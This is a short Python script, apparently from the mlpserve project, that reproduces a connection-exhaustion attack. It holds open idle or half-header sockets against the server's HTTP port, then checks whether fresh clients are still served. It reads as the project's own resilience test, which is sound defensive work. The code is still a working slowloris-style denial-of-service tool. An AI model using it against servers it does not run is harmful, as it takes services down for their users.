#!/usr/bin/env python3
"""Connection-exhaustion attack on a running mlpserve (idle, partial-header and
partial-body sockets held open to use up the connection cap); not a test.

Opens N sockets to the HTTP port that never send (or send half a header with --partial),
then checks that a fresh client is still served and reports how many of the attacker's
sockets the server has closed after --wait seconds. Start the server with a low fd limit
to reproduce the finding, e.g.

    (ulimit -n 1024; target/release/mlpserve serve --http-port 8000 --grpc-port 8001) &
    scripts/attack-connections.py --port 8000 --sockets 1100

Prints one JSON line.
"""

import argparse
import json
import socket
import time
import urllib.request


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=8000)
    p.add_argument("--sockets", type=int, default=1100)
    p.add_argument("--partial", action="store_true", help="send half a request header")
    p.add_argument("--wait", type=float, default=15.0)
    a = p.parse_args()

    held, failed = [], 0
    for _ in range(a.sockets):
        try:
            s = socket.create_connection((a.host, a.port), timeout=2)
            if a.partial:
                s.sendall(b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n")
            held.append(s)
        except OSError:
            failed += 1

    def probe() -> str:
        t = time.monotonic()
        try:
            with urllib.request.urlopen(f"http://{a.host}:{a.port}/v2/health/live", timeout=5) as r:
                status = r.status
        except Exception as e:  # noqa: BLE001 - reported
            status = type(e).__name__ + ": " + str(e)[:80]
        return f"{status} in {1000 * (time.monotonic() - t):.0f} ms"

    during = probe()
    time.sleep(a.wait)
    closed = 0
    for s in held:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    print(json.dumps({
        "sockets_opened": len(held),
        "connect_failures": failed,
        "fresh_client_during_attack": during,
        f"closed_by_server_after_{a.wait:g}s": closed,
        "fresh_client_after": probe(),
    }))


if __name__ == "__main__":
    main()
